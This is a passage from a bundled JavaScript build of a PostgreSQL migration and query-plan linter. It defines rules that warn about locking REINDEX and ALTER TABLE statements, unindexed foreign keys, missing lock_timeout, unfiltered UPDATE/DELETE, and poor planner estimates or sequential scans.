              return `REINDEX TABLE ${name} without CONCURRENTLY blocks writes to ${name} and locks each of its indexes exclusively, which stalls nearly every query on the table until the rebuild finishes.`;
            case "REINDEX_OBJECT_INDEX": {
              const lock = locksTakenBy(statement)[0];
              const table = lock && lockedTable(lock, context.catalog);
              if (table && context.isNewTable(table)) return void 0;
              const info = context.catalog.table(table);
              const on = info ? ` ${info.schema ? `${info.schema}.` : ""}${info.name}` : "";
              return `REINDEX INDEX ${name} without CONCURRENTLY locks the index exclusively and blocks writes to its table${on}: nearly every query on the table waits until the rebuild finishes.`;
            }
            case "REINDEX_OBJECT_SCHEMA":
            case "REINDEX_OBJECT_DATABASE": {
              const kind = node.kind === "REINDEX_OBJECT_SCHEMA" ? "SCHEMA" : "DATABASE";
              return `REINDEX ${kind}${node.name ? ` ${node.name}` : ""} without CONCURRENTLY rebuilds every index in it, blocking writes to each table and nearly every query on it while its indexes are rebuilt.`;
            }
            default:
              return void 0;
          }
        };
        return {
          ReindexStmt(node, statement) {
            if (booleanOption(node.params, "concurrently")) return;
            const message = describe5(node, statement);
            if (!message) return;
            const written = (node.params ?? []).some((p) => p.DefElem?.defname === "concurrently");
            const kind = kindKeyword(statement);
            context.report(statement, {
              message,
              help: statement.inTransaction ? "Use REINDEX ... CONCURRENTLY in a migration that runs outside a transaction block: CONCURRENTLY cannot run inside one." : void 0,
              fix: kind && !written && !statement.inTransaction ? { description: "Add CONCURRENTLY", edits: [{ range: { start: kind.end, end: kind.end }, text: " CONCURRENTLY" }] } : void 0
            });
          }
        };
      }
    });
  }
});

// src/rules/require-index-on-foreign-key.ts
function constraintRange(statement, location) {
  const tokens = statement.tokens;
  const first = tokens.findIndex((t) => t.range.start === location);
  if (first < 0) return void 0;
  let i = first;
  while (i < tokens.length && !(tokens[i].keyword && tokens[i].text.toUpperCase() === "REFERENCES")) i++;
  i++;
  while (tokens[i + 1]?.text === ".") i += 2;
  if (tokens[i + 1]?.text === "(") {
    while (i < tokens.length - 1 && tokens[i].text !== ")") i++;
  }
  const last = tokens[i];
  return last && { start: tokens[first].range.start, end: last.range.end };
}
function foreignKeys(statement, tracked) {
  const node = statement.node;
  const relation = node.relation;
  if (!relation) return [];
  let elements = [];
  if (statement.type === "CreateStmt") elements = node.tableElts ?? [];
  else if (statement.type === "AlterTableStmt" && node.objtype === "OBJECT_TABLE") {
    elements = (node.cmds ?? []).flatMap(
      (c) => c.AlterTableCmd?.subtype === "AT_AddColumn" || c.AlterTableCmd?.subtype === "AT_AddConstraint" ? [c.AlterTableCmd.def ?? {}] : []
    );
  }
  const found = [];
  const add = (constraint, columns) => {
    if (constraint.contype !== "CONSTR_FOREIGN" || columns.length === 0) return;
    found.push({ statement, relation, tracked, columns, referenced: constraint.pktable, range: constraintRange(statement, constraint.location) });
  };
  for (const element of elements) {
    if (element.Constraint) add(element.Constraint, names2(element.Constraint.fk_attrs));
    for (const constraint of columnConstraints(element.ColumnDef)) {
      if (element.ColumnDef?.colname) add(constraint, [element.ColumnDef.colname]);
    }
  }
  return found;
}
function indexedColumnsInFile(statements, relation) {
  const key = relationKey(relation);
  const found = [];
  for (const s of statements) {
    const node = s.node;
    if (relationKey(node.relation) !== key) continue;
    if (s.type === "IndexStmt" && !node.whereClause) found.push((node.indexParams ?? []).map((p) => p.IndexElem?.name ?? ""));
    if (s.type !== "AlterTableStmt") continue;
    for (const item of node.cmds ?? []) {
      const { Constraint: constraint, ColumnDef: column } = item.AlterTableCmd?.def ?? {};
      if (isKey(constraint)) found.push(names2(constraint.keys));
      for (const constraint2 of columnConstraints(column)) {
        if (column?.colname && isKey(constraint2)) found.push([column.colname]);
      }
    }
  }
  return found;
}
function leads(indexColumns, columns) {
  const leading = new Set(indexColumns.slice(0, columns.length));
  return indexColumns.length >= columns.length && columns.every((c) => leading.has(c));
}
function indexName(table, columns) {
  let base = `${table}_${columns.join("_")}`;
  while (Buffer.byteLength(base, "utf8") > NAME_BYTES - "_idx".length) base = [...base].slice(0, -1).join("");
  return `${base}_idx`;
}
var NAME_BYTES, names2, isKey, require_index_on_foreign_key_default;
var init_require_index_on_foreign_key = __esm({
  "src/rules/require-index-on-foreign-key.ts"() {
    "use strict";
    init_ast();
    init_catalog();
    init_rule();
    init_statements();
    NAME_BYTES = 63;
    names2 = (nodes) => (nodes ?? []).map(constantText).filter((n) => !!n);
    isKey = (constraint) => constraint?.contype === "CONSTR_PRIMARY" || constraint?.contype === "CONSTR_UNIQUE";
    require_index_on_foreign_key_default = defineRule({
      meta: {
        id: "require-index-on-foreign-key",
        category: "types",
        severity: "warning",
        summary: "Index the referencing columns of every foreign key.",
        why: "Postgres indexes the referenced side of a foreign key (its primary key or unique constraint) but not the referencing columns. Every row deleted from the referenced table, and every change to a referenced key, makes Postgres look for matching rows in the referencing table; without an index whose leading columns are the foreign key columns, that is a sequential scan of the whole referencing table per row, which also makes ON DELETE CASCADE and SET NULL slow.",
        safeAlternative: "Create an index whose leading columns are the foreign key columns (a primary key or unique constraint starting with them counts too). On an existing table, build it with CREATE INDEX CONCURRENTLY outside a transaction.",
        examples: {
          bad: ["CREATE TABLE orders (id bigint PRIMARY KEY, customer_id bigint NOT NULL REFERENCES customers (id));"],
          good: [
            "CREATE TABLE orders (id bigint PRIMARY KEY, customer_id bigint NOT NULL REFERENCES customers (id));\nCREATE INDEX orders_customer_id_idx ON orders (customer_id);",
            "CREATE TABLE order_tags (order_id bigint REFERENCES orders (id), tag text, PRIMARY KEY (order_id, tag));"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/ddl-constraints.html#DDL-CONSTRAINTS-FK",
          "https://www.postgresql.org/docs/current/sql-createindex.html#SQL-CREATEINDEX-CONCURRENTLY"
        ]
      },
      create(context) {
        const pending = [];
        return {
          statement(statement) {
            const relation = statement.node.relation;
            pending.push(...foreignKeys(statement, statement.type === "CreateStmt" || context.catalog.table(relation) !== void 0));
          },
          endOfFile() {
            for (const fk of pending) {
              const table = context.catalog.table(fk.relation);
              if (fk.tracked && !table) continue;
              const indexed = table ? table.indexes.filter((i) => !i.partial).map((i) => i.columns) : indexedColumnsInFile(context.file.statements, fk.relation);
              if (indexed.some((columns2) => leads(columns2, fk.columns))) continue;
              const tableName4 = relationName2(fk.relation);
              const quotedTable = [fk.relation.schemaname, fk.relation.relname].filter((p) => !!p).map(quoteIdentifier).join(".");
              const concurrently = context.isNewTable(fk.relation) ? "" : " CONCURRENTLY";
              const columns = fk.columns.join(", ");
              context.report(fk.statement, {
                range: fk.range,
                message: `Each row deleted from ${relationName2(fk.referenced)}, or whose key changes, makes Postgres scan all of ${tableName4} for referencing rows, because no index on ${tableName4} starts with (${columns}).`,
                help: `CREATE INDEX${concurrently} ${quoteIdentifier(indexName(fk.relation.relname ?? "", fk.columns))} ON ${quotedTable} (${fk.columns.map(quoteIdentifier).join(", ")});`
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/require-lock-timeout.ts
var require_lock_timeout_default;
var init_require_lock_timeout = __esm({
  "src/rules/require-lock-timeout.ts"() {
    "use strict";
    init_rule();
    init_locks();
    init_statements();
    init_catalog();
    init_statement_locks();
    require_lock_timeout_default = defineRule({
      meta: {
        id: "require-lock-timeout",
        category: "locking",
        severity: "warning",
        summary: "Set lock_timeout before statements that take blocking locks on existing tables.",
        why: "A statement that needs a lock conflicting with running queries waits for them, and while it waits, every new query whose lock conflicts with the one it asked for queues behind it. Behind a long-running SELECT, even a quick ALTER TABLE can stop all traffic to the table for as long as that SELECT runs. lock_timeout makes the statement give up instead, which releases the queue.",
        safeAlternative: "Run `SET lock_timeout = '5s';` before the statement (or `SET LOCAL lock_timeout = '5s';` inside its transaction) and retry the migration when it times out.",
        examples: {
          bad: ["ALTER TABLE orders ADD COLUMN note text;"],
          good: [
            "SET lock_timeout = '5s';\nALTER TABLE orders ADD COLUMN note text;",
            "BEGIN;\nSET LOCAL lock_timeout = '5s';\nALTER TABLE orders ADD COLUMN note text;\nCOMMIT;",
            "CREATE TABLE invoices (id bigint);\nALTER TABLE invoices ADD COLUMN note text;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/runtime-config-client.html#GUC-LOCK-TIMEOUT",
          "https://www.postgresql.org/docs/current/explicit-locking.html#LOCKING-TABLES"
        ]
      },
      create(context) {
        let held = /* @__PURE__ */ new Map();
        let heldIn;
        return {
          statement(statement) {
            if (statement.transaction !== heldIn) {
              held = /* @__PURE__ */ new Map();
              heldIn = statement.transaction;
            }
            const locks = locksTakenBy(statement, context.postgresVersion).map((lock) => {
              const table = lockedTable(lock, context.catalog);
              return { lock, table, key: relationKey(table), mode: lock.index ? lock.index.tableMode : lock.mode };
            });
            const waits = locks.filter(({ key, mode }) => {
              const previous = key === void 0 ? void 0 : held.get(key);
              return previous === void 0 || !covers(previous, mode);
            });
            if (statement.transaction !== void 0) {
              for (const { key, mode } of locks) {
                const previous = key === void 0 ? void 0 : held.get(key);
                if (key !== void 0 && (previous === void 0 || covers(mode, previous))) held.set(key, mode);
              }
            }
            if (!isDisabledTimeout(statement.lockTimeout)) return;
            if (statement.type === "LockStmt" && statement.node.nowait === true) return;
            const blocking = [];
            for (const { lock, table, mode } of waits) {
              if (!isDisruptive(mode)) continue;
              if (table !== void 0 && context.isNewTable(table)) continue;
              const known = lock.index ? context.catalog.table(table) : void 0;
              const name = !lock.index ? lock.relation : known ? `${known.schema ? `${known.schema}.` : ""}${known.name}` : `the table of index ${lock.relation}`;
              blocking.push({ name, mode });
            }
            if (blocking.length === 0) return;
            const modes = [...new Set(blocking.map((b) => b.mode))];
            const taken = modes.map((mode) => `${lockName(mode)} on ${blocking.filter((b) => b.mode === mode).map((b) => b.name).join(", ")}`).join(" and ");
            const names3 = (reads) => blocking.filter((b) => blockedOperations(b.mode).reads === reads).map((b) => b.name);
            const queued = [
              names3(true).length > 0 ? `every read and write on ${names3(true).join(", ")}` : "",
              names3(false).length > 0 ? `every write on ${names3(false).join(", ")}` : ""
            ].filter(Boolean).join(" and ");
            context.report(statement, {
              message: `Takes ${taken} with no lock_timeout set: while it waits for the lock behind a long-running query, ${queued} queues behind it.`,
              help: statement.inTransaction ? "Run `SET LOCAL lock_timeout = '5s';` in this transaction before the statement, and retry the migration when it times out." : "Run `SET lock_timeout = '5s';` before this statement and retry the migration when it times out."
            });
          }
        };
      }
    });
  }
});

// src/rules/require-using-index.ts
function buildsIndex(constraint) {
  return (constraint.contype === "CONSTR_UNIQUE" || constraint.contype === "CONSTR_PRIMARY") && !constraint.indexname;
}
function nullableNote(table, columns) {
  const nullable2 = columns.filter((c) => !table?.columns.get(c)?.notNull);
  if (nullable2.length === 0) return "";
  return ` The primary key also makes ${nullable2.join(", ")} NOT NULL, which scans the table under an ACCESS EXCLUSIVE lock: make them NOT NULL first without a long lock (see the setting-not-null rule).`;
}
var BUILD, require_using_index_default;
var init_require_using_index = __esm({
  "src/rules/require-using-index.ts"() {
    "use strict";
    init_ast();
    init_rule();
    init_statements();
    BUILD = "builds its index under an ACCESS EXCLUSIVE lock, blocking reads and writes until the index is built";
    require_using_index_default = defineRule({
      meta: {
        id: "require-using-index",
        category: "locking",
        severity: "error",
        summary: "Add UNIQUE and PRIMARY KEY constraints to existing tables with USING INDEX.",
        why: "ALTER TABLE ... ADD CONSTRAINT ... UNIQUE or PRIMARY KEY builds the constraint's index while holding an ACCESS EXCLUSIVE lock on the table: no reads or writes go through until the whole index is built, which on a large table takes minutes.",
        safeAlternative: "Build the index first with CREATE UNIQUE INDEX CONCURRENTLY (it does not block reads or writes), then attach it with ADD CONSTRAINT ... UNIQUE USING INDEX or PRIMARY KEY USING INDEX, which only holds its lock for a moment. PRIMARY KEY USING INDEX also sets NOT NULL on the key columns, which scans the table unless they are NOT NULL already.",
        examples: {
          bad: ["ALTER TABLE orders ADD CONSTRAINT orders_number_key UNIQUE (number);"],
          good: [
            "ALTER TABLE orders ADD CONSTRAINT orders_number_key UNIQUE USING INDEX orders_number_idx;",
            "CREATE TABLE invoices (number text);\nALTER TABLE invoices ADD CONSTRAINT invoices_number_key UNIQUE (number);"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-DESC-ADD-TABLE-CONSTRAINT-USING-INDEX",
          "https://www.postgresql.org/docs/current/sql-createindex.html#SQL-CREATEINDEX-CONCURRENTLY",
          "https://www.postgresql.org/docs/current/explicit-locking.html#LOCKING-TABLES"
        ]
      },
      create(context) {
        return {
          AlterTableStmt(node, statement) {
            if (node.objtype !== "OBJECT_TABLE" || context.isNewTable(node.relation)) return;
            const table = relationName2(node.relation);
            const info = context.catalog.table(node.relation);
            for (const { cmd, range: range2, column, constraint } of alterTableCommands(statement, node)) {
              if (cmd.subtype === "AT_AddConstraint") {
                if (!constraint || !buildsIndex(constraint)) continue;
                const kind = constraint.contype === "CONSTR_PRIMARY" ? "PRIMARY KEY" : "UNIQUE";
                const columns = (constraint.keys ?? []).map(constantText).filter((c) => !!c);
                const index = constraint.conname ?? `${node.relation?.relname}_${kind === "UNIQUE" ? `${columns.join("_")}_key` : "pkey"}`;
                context.report(statement, {
                  range: range2,
                  message: `Adding ${kind} constraint ${constraint.conname ? `${constraint.conname} ` : ""}to ${table} ${BUILD}.`,
                  help: `Build the index first, outside a transaction block: \`CREATE UNIQUE INDEX CONCURRENTLY ${index} ON ${table} (${columns.join(", ")});\`, then attach it: \`ALTER TABLE ${table} ADD CONSTRAINT ${index} ${kind} USING INDEX ${index};\`.` + (kind === "PRIMARY KEY" ? nullableNote(info, columns) : "")
                });
              } else if (cmd.subtype === "AT_AddColumn") {
                const unique4 = columnConstraints(column).find(buildsIndex);
                if (!column || !unique4) continue;
                const kind = unique4.contype === "CONSTR_PRIMARY" ? "PRIMARY KEY" : "UNIQUE";
                context.report(statement, {
                  range: range2,
                  message: `Adding column ${column.colname} with a ${kind} constraint to ${table} ${BUILD}.`,
                  help: `Add the column without ${kind}, build the index with CREATE UNIQUE INDEX CONCURRENTLY outside a transaction block, then attach it with \`ALTER TABLE ${table} ADD CONSTRAINT ... ${kind} USING INDEX ...;\`.`
                });
              }
            }
          }
        };
      }
    });
  }
});

// src/rules/require-where-clause.ts
function unfilteredWrites(node) {
  const wrapper = node;
  const payload = Object.values(node)[0] ?? {};
  const writes = (payload.withClause?.ctes ?? []).flatMap(
    (cte) => unfilteredWrites(cte.CommonTableExpr?.ctequery ?? {})
  );
  const write = wrapper.UpdateStmt ?? wrapper.DeleteStmt;
  if (write && !write.whereClause) {
    writes.push({ command: wrapper.UpdateStmt ? "UPDATE" : "DELETE", relation: write.relation });
  }
  return writes;
}
var require_where_clause_default;
var init_require_where_clause = __esm({
  "src/rules/require-where-clause.ts"() {
    "use strict";
    init_ast();
    init_rule();
    require_where_clause_default = defineRule({
      meta: {
        id: "require-where-clause",
        category: "breaking",
        severity: "warning",
        summary: "Do not UPDATE or DELETE every row of an existing table in a migration.",
        why: "Without a WHERE clause, UPDATE and DELETE touch every row of the table in a single transaction. Each row stays locked until the migration commits, so application writes to any of them wait; every updated or deleted row leaves a dead version behind that only VACUUM reclaims, so the table and its indexes bloat; and on a large table the statement runs for a long time, holding its locks and the rest of the migration back.",
        safeAlternative: "Backfill or purge outside the migration: run the change from a script in batches by key range (for example WHERE id >= $1 AND id < $2), each batch in its own short transaction, so locks are brief and VACUUM keeps up.",
        examples: {
          bad: ["UPDATE orders SET currency = 'EUR';", "DELETE FROM sessions;"],
          good: [
            "UPDATE orders SET currency = 'EUR' WHERE currency IS NULL AND id < 10000;",
            "CREATE TABLE currencies (code text PRIMARY KEY, active boolean);\nINSERT INTO currencies VALUES ('EUR', false);\nUPDATE currencies SET active = true;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-update.html",
          "https://www.postgresql.org/docs/current/sql-delete.html",
          "https://www.postgresql.org/docs/current/explicit-locking.html#LOCKING-ROWS",
          "https://www.postgresql.org/docs/current/routine-vacuuming.html#VACUUM-FOR-SPACE-RECOVERY"
        ]
      },
      create(context) {
        return {
          statement(statement) {
            for (const write of unfilteredWrites({ [statement.type]: statement.node })) {
              if (context.isNewTable(write.relation)) continue;
              const table = relationName2(write.relation);
              context.report(statement, {
                message: `${write.command} without WHERE ${write.command === "UPDATE" ? "rewrites" : "deletes"} every row of ${table} in one transaction: each row stays locked until the transaction commits, every old row version stays behind as bloat until VACUUM removes it, and on a large table the statement runs for a long time.`
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/row-misestimate.ts
function errorRatio(node) {
  return Math.max(node["Actual Rows"] ?? 0, 1) / Math.max(node["Plan Rows"] ?? 0, 1);
}
function stoppedEarly(visit) {
  for (let child = visit, parent = visit.parent; parent; child = parent, parent = parent.parent) {
    const { node } = parent;
    if (node["Node Type"] === "Limit" || node["Node Type"] === "Merge Join") return true;
    const join3 = node["Join Type"];
    if ((join3 === "Semi" || join3 === "Anti") && child.node["Parent Relationship"] === "Inner") return true;
  }
  return false;
}
function inputError(visit) {
  if (visit.node["Node Type"] === "Bitmap Heap Scan") return 1;
  const inputs = visit.children.filter((c) => {
    const relationship = c.node["Parent Relationship"];
    return relationship !== "InitPlan" && relationship !== "SubPlan" && (c.node["Actual Loops"] ?? 0) > 0;
  });
  if (inputs.length === 0) return 1;
  if (JOINS.has(visit.node["Node Type"])) return inputs.reduce((product, child) => product * errorRatio(child.node), 1);
  const actual = inputs.reduce((sum, child) => sum + (child.node["Actual Rows"] ?? 0), 0);
  const estimate3 = inputs.reduce((sum, child) => sum + (child.node["Plan Rows"] ?? 0), 0);
  return Math.max(actual, 1) / Math.max(estimate3, 1);
}
var defaultOptions5, SKIPPED, CONDITION_KEYS2, row_misestimate_default, JOINS;
var init_row_misestimate = __esm({
  "src/rules/row-misestimate.ts"() {
    "use strict";
    init_rule();
    init_text2();
    init_walk();
    defaultOptions5 = { factor: 10, minRows: 100, minTotalRows: 1e4 };
    SKIPPED = /* @__PURE__ */ new Set(["Bitmap Index Scan", "BitmapAnd", "BitmapOr", "Recursive Union", "WorkTable Scan"]);
    CONDITION_KEYS2 = ["Hash Cond", "Merge Cond", "Join Filter", "Index Cond", "Recheck Cond", "Filter"];
    row_misestimate_default = definePlanRule({
      meta: {
        id: "row-misestimate",
        category: "plan",
        severity: "notice",
        needsAnalyze: true,
        summary: "The planner's row estimate for a plan node is off by 10x or more.",
        why: "The planner chooses join methods, join order and memory use from its row estimates. When a node returns ten times more (or fewer) rows than estimated, every decision above it was made for the wrong amount of data: a nested loop that runs a hundred thousand times instead of ten, a hash table that spills, an index ignored. The usual causes are statistics gathered before the data changed and columns whose values depend on each other, which the planner treats as independent.",
        safeAlternative: "Run ANALYZE on the tables involved (and check that autovacuum analyzes them often enough). For columns that are correlated, create extended statistics: CREATE STATISTICS ... (dependencies, ndistinct, mcv) ON a, b FROM t; then ANALYZE. For skewed columns, raise the statistics target (ALTER TABLE ... ALTER COLUMN ... SET STATISTICS 1000).",
        defaultOptions: defaultOptions5,
        optionDocs: {
          factor: "Flag a node whose actual rows differ from the estimate by this factor or more, either way.",
          minRows: "Ignore a node whose estimated and actual rows per loop are both below this, unless `minTotalRows` is reached.",
          minTotalRows: "Check a node that returned at least this many rows over all its loops, however few per loop."
        },
        examples: {
          existing: "CREATE TABLE addresses (\n  id bigint PRIMARY KEY,\n  zip_code int NOT NULL,\n  city_id int NOT NULL\n);\n-- The zip code decides the city: 500 zip codes in 50 cities.\nINSERT INTO addresses\nSELECT g, g % 500, g % 500 / 10\nFROM generate_series(1, 100000) AS g;\nVACUUM ANALYZE addresses;",
          bad: ["SELECT id FROM addresses WHERE city_id = 14 AND zip_code = 140;"],
          good: [
            "CREATE STATISTICS addresses_zip_city (dependencies) ON zip_code, city_id FROM addresses;\nANALYZE addresses;\nSELECT id FROM addresses WHERE city_id = 14 AND zip_code = 140;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/planner-stats.html",
          "https://www.postgresql.org/docs/current/multivariate-statistics-examples.html",
          "https://www.postgresql.org/docs/current/sql-createstatistics.html"
        ]
      },
      check(_plan, context) {
        const { factor, minRows, minTotalRows } = context.options;
        for (const visit of context.nodes) {
          const { node } = visit;
          const loops = node["Actual Loops"];
          const estimate3 = node["Plan Rows"];
          if (!loops || estimate3 === void 0 || SKIPPED.has(node["Node Type"])) continue;
          const actual = node["Actual Rows"] ?? 0;
          if (estimate3 < minRows && actual < minRows && actual * loops < minTotalRows) continue;
          const ratio = errorRatio(node);
          if (Math.max(ratio, 1 / ratio) < factor || ratio < 1 && stoppedEarly(visit)) continue;
          const own = ratio / inputError(visit);
          if (Math.max(own, 1 / own) < factor) continue;
          const more = ratio > 1;
          const times = Math.round(more ? ratio : 1 / ratio);
          const perLoop = loops > 1 ? " per loop" : "";
          const conditions = CONDITION_KEYS2.map((key) => node[key]).filter((c) => typeof c === "string");
          const misjudged = conditions.length ? `how many rows match ${conditions.join(" and ")}` : node["Group Key"] ? `how many distinct (${node["Group Key"].join(", ")}) there are` : void 0;
          const tables = relationsBelow(visit);
          context.report({
            node,
            message: `${nodeLabel(node)} returned ${formatCount(actual)} rows${perLoop} where the planner expected ${formatCount(estimate3)} (${times}x ${more ? "more" : "fewer"})${misjudged ? `: the statistics misjudge ${misjudged}` : ""}, so what the planner built on this estimate was sized for the wrong amount of data.`,
            help: tables.length ? `Run ANALYZE on ${tables.join(", ")}; if the conditions involve columns that depend on each other, create extended statistics on them (CREATE STATISTICS ... (dependencies, mcv) ON a, b FROM t) and ANALYZE again.` : void 0,
            evidence: { estimatedRows: estimate3, actualRows: actual, loops, factor: times, direction: more ? "under" : "over" }
          });
        }
      }
    });
    JOINS = /* @__PURE__ */ new Set(["Nested Loop", "Hash Join", "Merge Join"]);
  }
});

// src/rules/selective-seq-scan.ts
function analyzed(visit) {
  const { node } = visit;
  const loops = node["Actual Loops"] ?? 0;
  if (loops === 0) return void 0;
  const returned = actualRows(node) ?? 0;
  const read = returned + (node["Rows Removed by Filter"] ?? 0) * loops;
  const scans = loops / visit.processes;
  const pages = pagesRead(node);
  return { read, returned, readPerScan: read / scans, pagesPerScan: pages === void 0 ? void 0 : pages / scans, estimated: false };
}
function estimated2(visit, tableRows2) {
  if (tableRows2 === void 0 || stopsEarly(visit)) return void 0;
  const returned = (visit.node["Plan Rows"] ?? 0) * visit.processes;
  return { read: tableRows2, returned, readPerScan: tableRows2, pagesPerScan: void 0, estimated: true };
}
function pagesRead(node) {
  const hit = node["Shared Hit Blocks"];
  const read = node["Shared Read Blocks"];
  return hit === void 0 && read === void 0 ? void 0 : (hit ?? 0) + (read ?? 0);
}
function stopsEarly(visit) {
  for (let v = visit.parent; v; v = v.parent) {
    const type = v.node["Node Type"];
    const join3 = v.node["Join Type"];
    if (type === "Limit" || join3 === "Semi" || join3 === "Anti") return true;
  }
  return false;
}
var defaultOptions6, selective_seq_scan_default;
var init_selective_seq_scan = __esm({
  "src/rules/selective-seq-scan.ts"() {
    "use strict";
    init_rule();
    init_conditions();
    init_text2();
    init_walk();
    defaultOptions6 = { maxKeptShare: 0.05, minPages: 1e3, minRows: 5e4, minRuntimeShare: 0.1 };
    selective_seq_scan_default = definePlanRule({
      meta: {
        id: "selective-seq-scan",
        category: "plan",
        severity: "warning",
        needsAnalyze: false,
        summary: "A sequential scan of a large table keeps only a small share of the rows it reads.",
        why: "A Seq Scan reads every page of the table and checks the filter on every row, so its cost grows with the table, not with the result: a query that returns a handful of rows from a table of millions reads all of them, on every call, and pushes other data out of the cache while doing so.",
        safeAlternative: "Create an index on the filtered columns (equality columns first, then at most one range column), with CREATE INDEX CONCURRENTLY in a migration. If the query always filters on the same value, a partial index (`... WHERE status = 'late'`) is smaller still.",
        defaultOptions: defaultOptions6,
        optionDocs: {
          maxKeptShare: "Flag the scan when it returns less than this share of the rows it reads.",
          minPages: "A table is large from this many pages read per scan (with BUFFERS).",
          minRows: "A table is large from this many rows read per scan (or, without ANALYZE, in the table).",
          minRuntimeShare: "Only flag a scan that takes at least this share of the execution time (of the estimated cost without ANALYZE)."
        },
        examples: {
          existing: "CREATE TABLE orders (\n  id bigint PRIMARY KEY,\n  status text NOT NULL,\n  total numeric(12, 2) NOT NULL\n);\nINSERT INTO orders\nSELECT g, CASE WHEN g % 1000 = 0 THEN 'late' ELSE 'delivered' END, g % 500 + 0.99\nFROM generate_series(1, 100000) AS g;\nVACUUM ANALYZE orders;",
          bad: ["SELECT id, total FROM orders WHERE status = 'late';"],
          good: [
            "CREATE INDEX orders_status_idx ON orders (status);\nSELECT id, total FROM orders WHERE status = 'late';",
            "SELECT id, total FROM orders WHERE status = 'delivered';"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/using-explain.html",
          "https://www.postgresql.org/docs/current/indexes-multicolumn.html",
          "https://www.postgresql.org/docs/current/indexes-partial.html"
        ]
      },
      check(plan, context) {
        const { options } = context;
        for (const visit of context.nodes) {
          const { node } = visit;
          const filter = node.Filter;
          const table = relationName(node);
          if (node["Node Type"] !== "Seq Scan" || !filter || !table) continue;
          const scan2 = isAnalyzed(plan) ? analyzed(visit) : estimated2(visit, context.tableRows(node));
          if (!scan2 || scan2.read === 0) continue;
          const kept = scan2.returned / scan2.read;
          const large = scan2.readPerScan >= options.minRows || (scan2.pagesPerScan ?? 0) >= options.minPages;
          if (kept >= options.maxKeptShare || !large || workShare(plan, visit, true) < options.minRuntimeShare) continue;
          const columns = comparedColumns(filter, node.Alias).map((c) => c.column);
          const verb = scan2.estimated ? "would read" : "read";
          context.report({
            node,
            message: `Seq Scan on ${table} ${verb} ${formatCount(scan2.read)} rows to return ${scan2.estimated ? "about " : ""}${formatCount(scan2.returned)} (${formatShare(kept)}): the filter ${filter} is checked on every row of the table.`,
            help: columns.length ? `Create an index for the filter so Postgres reads only the matching rows: CREATE INDEX CONCURRENTLY ON ${table} (${columns.join(", ")}); (in a migration). If the query always uses the same value, a partial index with that WHERE clause is smaller.` : void 0,
            evidence: { rowsRead: Math.round(scan2.read), rowsReturned: Math.round(scan2.returned), estimated: scan2.estimated }
          });
        }
      }
    });
  }
});

// src/rules/setting-not-null.ts
function notNullColumn({ cmd, constraint }) {
  if (cmd.subtype === "AT_SetNotNull") return cmd.name;
  if (cmd.subtype !== "AT_AddConstraint" || constraint?.contype !== "CONSTR_NOTNULL" || constraint.skip_validation) return void 0;
  return constantText(constraint.keys?.[0]);
}
function help(version, table, relname, column) {
  const constraint = `${relname}_${column}_not_null`;
  if (version >= 18) {
    return `Add the constraint without checking the existing rows: \`ALTER TABLE ${table} ADD CONSTRAINT ${constraint} NOT NULL ${column} NOT VALID;\`, then in a separate transaction \`ALTER TABLE ${table} VALIDATE CONSTRAINT ${constraint};\`, which checks the rows without blocking reads or writes and leaves the column NOT NULL.`;
  }
  if (version >= 12) {
    return `Prove there are no NULLs first: \`ALTER TABLE ${table} ADD CONSTRAINT ${constraint} CHECK (${column} IS NOT NULL) NOT VALID;\`, then in a separate transaction \`ALTER TABLE ${table} VALIDATE CONSTRAINT ${constraint};\` (does not block reads or writes), then \`ALTER TABLE ${table} ALTER COLUMN ${column} SET NOT NULL;\` (no scan now) and \`ALTER TABLE ${table} DROP CONSTRAINT ${constraint};\`.`;
  }
  return `Before Postgres 12, SET NOT NULL always scans the table. Run it when the table is quiet, with a short lock_timeout, or keep a CHECK (${column} IS NOT NULL) constraint instead, added NOT VALID and validated in a separate transaction.`;
}
var setting_not_null_default;
var init_setting_not_null = __esm({
  "src/rules/setting-not-null.ts"() {
    "use strict";
    init_ast();
    init_rule();
    init_statements();
    setting_not_null_default = defineRule({
      meta: {
        id: "setting-not-null",
        category: "locking",
        severity: "error",
        verifiedBy: "validation",
        summary: "Do not set NOT NULL on a column of an existing table with a full-table check.",
        why: "ALTER COLUMN ... SET NOT NULL (and, from Postgres 18, ADD CONSTRAINT ... NOT NULL) scans the whole table for NULLs while holding an ACCESS EXCLUSIVE lock: no reads or writes go through until the scan is done. From Postgres 12 the scan is skipped when a validated CHECK (col IS NOT NULL) constraint already proves there are no NULLs; VALIDATE CONSTRAINT checks the rows under a SHARE UPDATE EXCLUSIVE lock, which lets reads and writes through.",
        safeAlternative: "From Postgres 18: ADD CONSTRAINT ... NOT NULL col NOT VALID, then VALIDATE CONSTRAINT in a separate transaction. Postgres 12 to 17: ADD CONSTRAINT ... CHECK (col IS NOT NULL) NOT VALID, VALIDATE CONSTRAINT in a separate transaction, then SET NOT NULL (no scan) and drop the CHECK constraint.",
        postgres: {
          note: "From Postgres 12 a validated CHECK (col IS NOT NULL) lets SET NOT NULL skip its scan; from Postgres 18 a NOT NULL constraint itself can be added NOT VALID and validated without blocking."
        },
        examples: {
          bad: ["ALTER TABLE orders ALTER COLUMN status SET NOT NULL;"],
          good: [
            "ALTER TABLE orders ADD CONSTRAINT orders_status_not_null CHECK (status IS NOT NULL) NOT VALID;",
            "CREATE TABLE invoices (status text);\nALTER TABLE invoices ALTER COLUMN status SET NOT NULL;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-DESC-SET-DROP-NOT-NULL",
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-NOTES",
          "https://www.postgresql.org/docs/current/explicit-locking.html#LOCKING-TABLES"
        ]
      },
      create(context) {
        const version = context.postgresVersion;
        return {
          AlterTableStmt(node, statement) {
            if (node.objtype !== "OBJECT_TABLE" || context.isNewTable(node.relation)) return;
            const table = context.catalog.table(node.relation);
            const name = relationName2(node.relation);
            for (const command of alterTableCommands(statement, node)) {
              const column = notNullColumn(command);
              if (!column || table?.columns.get(column)?.notNull) continue;
              const check = table?.constraints.find((c) => c.kind === "check" && c.notNullColumn === column);
              if (version >= 12 && check?.validated) continue;
